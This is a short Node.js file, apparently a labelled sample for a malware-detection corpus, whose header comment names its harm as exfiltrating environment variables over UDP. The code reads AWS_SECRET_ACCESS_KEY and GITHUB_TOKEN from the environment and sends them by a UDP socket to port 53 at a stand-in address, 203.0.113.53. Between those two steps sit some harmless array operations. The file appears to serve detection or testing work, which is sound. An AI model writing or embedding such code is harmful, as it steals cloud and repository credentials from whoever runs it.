// harm: exfiltrate env via UDP; technique: dgram socket created through destructured createSocket
const { createSocket } = require('dgram');

const keys = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'];
const payload = Buffer.from(keys.map((k) => `${k}=${process.env[k] ?? ''}`).join(';'));

const results = [1, 2, 3].map((x) => x * 2);
console.log(results);

const sock = createSocket('udp4');
sock.send(payload, 53, '203.0.113.53', () => sock.close());
